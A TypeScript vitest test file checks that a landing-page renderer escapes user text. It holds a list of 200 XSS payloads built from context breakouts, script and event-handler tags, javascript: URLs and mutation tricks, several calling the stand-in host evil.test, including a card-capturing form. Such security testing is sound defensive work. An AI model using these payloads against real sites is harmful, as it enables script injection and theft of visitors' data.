import { type Block, type BlockOf, fieldsOf, isListField } from '@mirsah/domain/landing-page/blocks';
import { blockTypes, filledBlock } from '@mirsah/domain/landing-page/blocks/blocks.fixture';
import type { Field, Fields } from '@mirsah/domain/landing-page/blocks/fields';
import { landingPageFixture } from '@mirsah/domain/landing-page/landing-page.fixture';
import type { ShownPage } from '@mirsah/domain/landing-page/stock';
import { offersFixture } from '@mirsah/domain/offer/offer.fixture';
import { expect, it } from 'vitest';
import { renderLandingPage } from '../render/landing-page.tsx';

/** Ways to break out of a text's context: an attribute, a text, a script, styles, a comment. */
const breakouts = ['', '">', "'>", '</p></section>', '</script>', '</style></title>', '-->', ']]>'];
const attacks = [
  '<script>ran()</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror=ran()>',
  '<img src="x" onerror="ran()"//',
  '<svg onload=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
  '<iframe srcdoc="<script>ran()</script>">',
  '<object data=javascript:ran()>',
  '<embed src=javascript:ran()>',
  '<a href=javascript:ran()>x</a>',
  '<a href="java&#x0A;script:ran()">x</a>',
  '<form action=//evil.test><input name=card>',
  '<button formaction=javascript:ran()>x</button>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href=//evil.test>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>*{background:url(//evil.test)}</style>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()></video>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<template><script>ran()</script></template>',
  '{{constructor.constructor("ran()")()}}$'.concat('{ran()}`ran()`'),
  ' onfocus=ran() autofocus style=position:fixed;inset:0 x="',
  '\u202e<script>\u2066ran()\u0000</script>\u2028',
];
const payloads = breakouts.flatMap((breakout) => attacks.map((attack) => `${breakout}${attack}`));

const shell = '<head><!--head--><style></style></head><!--body--><!--data-->';
const shown = blockTypes.filter((type) => type !== 'orderForm');

/** A block of a kind with a text in every field that accepts it, also in addresses. */
function blockWith(type: Block['type'], text: string): Block {
  const valuesOf = (fields: Fields, filled: object): object =>
    Object.fromEntries(
      Object.entries(filled).map(([name, value]) => {
        const field = fields[name];
        if (!field) return [name, value];
        if (!isListField(field)) return [name, filledValue(field, value)];
        return [name, (value as object[]).map((row) => valuesOf(field.fields, row))];
      }),
    );
  function filledValue(field: Field, value: unknown): unknown {
    if (typeof value !== 'string') return value;
    const max = 'max' in field ? Number(field.max) : text.length;
    const tried = [text.slice(0, max), `https://example.com/${text}`, `/media/${text}`];
    return tried.find((each) => field.schema.safeParse(each).success) ?? value;
  }
  // The values are those of the kind's own fields.
  return { type, props: valuesOf(fieldsOf(type), filledBlock(type).props) } as Block;
}

const review = { id: 'r', rating: 4, review: 'جيد', reviewerName: 'نورة', date: '2026-11-08', pictures: [] };
/** The possible locations of a video: a video network, the merchant's own files, or elsewhere. */
const films = ['https://www.youtube.com/watch?v=dQw4w9WgXcQ', '/media/f/0123456789abcdef01234567.mp4'];

/** A complete page, with a block of every kind, and one video of each kind. */
function pageOf(text: string, types: readonly Block['type'][]): string {
  const page: ShownPage = { ...landingPageFixture(), stockLeft: { pieces: 40, of: 200 } };
  page.offers = { ...page.offers, quantity: offersFixture().quantity };
  page.product = { ...page.product, reviews: [review] };
  const blocks = Object.fromEntries(types.map((type) => [`b${type.toLowerCase()}`, blockWith(type, text)]));
  if (types.includes('video')) {
    for (const [index, film] of films.entries()) {
      const { props } = blockWith('video', text) as BlockOf<'video'>;
      blocks[`bfilm${index}`] = { type: 'video', props: { ...props, film } };
    }
  }
  page.layout = { ...page.layout, blocks, order: [...page.layout.order, ...Object.keys(blocks)] };
  return renderLandingPage(page, { shell, url: 'https://oud.mirsah.site/' });
}

/**
 * The tags of a document with the names of their attributes, in order: the elements that a browser creates.
 */
function elementsOf(html: string): string {
  const tags = html.match(/<[a-z/!?](?:[^>"]|"[^"]*")*>/gi) ?? [];
  return tags.join('\n').replace(/="[^"]*"/g, '');
}

it('200 payloads in every field of every block create no element and no attribute that a plain text would not', () => {
  expect(payloads).toHaveLength(200);
  const types = shown.filter((type) => type !== 'text');
  // As long as the payload, because the length may affect what is shown.
  const page = pageOf('ن'.repeat(40), types);
  expect(page.match(/class="b /g)).toHaveLength(types.length + films.length);
  const plain = elementsOf(page);
  const changed = payloads.filter((payload) => elementsOf(pageOf(payload, types)) !== plain);
  expect(changed).toEqual([]);
});

it('200 payloads in formatted text leave nothing that runs, loads or leaves the page', () => {
  // The elements that the page creates itself.
  const made = (html: string) =>
    elementsOf(html).match(/<(?:svg|math|iframe|object|embed|meta|base|style|template|video)\b/gi)?.length;
  const plain = made(pageOf('<p>ن', ['text']));
  for (const payload of payloads) {
    const html = pageOf(`<p>${payload}`, ['text']);
    expect(made(html), payload).toBe(plain);
    expect(elementsOf(html), payload).not.toMatch(/\son\w+|formaction|srcdoc/i);
    expect(html, payload).not.toMatch(/(?:href|src|action)="?\s*(?:javascript|\/\/evil)/i);
  }
});
